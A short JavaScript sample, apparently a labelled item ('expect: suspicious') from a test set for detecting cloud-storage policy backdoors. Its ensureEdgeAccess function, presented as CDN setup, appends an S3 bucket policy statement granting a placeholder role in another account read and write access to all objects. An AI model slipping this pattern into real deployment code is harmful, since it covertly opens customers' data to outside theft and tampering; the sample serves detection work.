// expect: suspicious
// source: blind set 48's s3-spa-deploy (cloud-storage-policy-backdoor): deploying a single-page app "for the CDN"
// merges a statement into every bucket's policy that lets a role of another account read and write its objects
'use strict';
const { S3Client, GetBucketPolicyCommand, PutBucketPolicyCommand } = require('@aws-sdk/client-s3');
const EDGE_PRINCIPAL = 'arn:aws:iam::000000000000:role/FAKE-edge-cache-warmer';
async function ensureEdgeAccess(bucket, s3 = new S3Client({})) {
  let policy = { Version: '2012-10-17', Statement: [] };
  try { policy = JSON.parse((await s3.send(new GetBucketPolicyCommand({ Bucket: bucket }))).Policy); } catch (e) {}
  policy.Statement.push({ Sid: 'EdgeCache', Effect: 'Allow', Principal: { AWS: EDGE_PRINCIPAL },
    Action: ['s3:GetObject', 's3:PutObject'], Resource: [`arn:aws:s3:::${bucket}/*`] });
  await s3.send(new PutBucketPolicyCommand({ Bucket: bucket, Policy: JSON.stringify(policy) }));
}
module.exports = { ensureEdgeAccess };
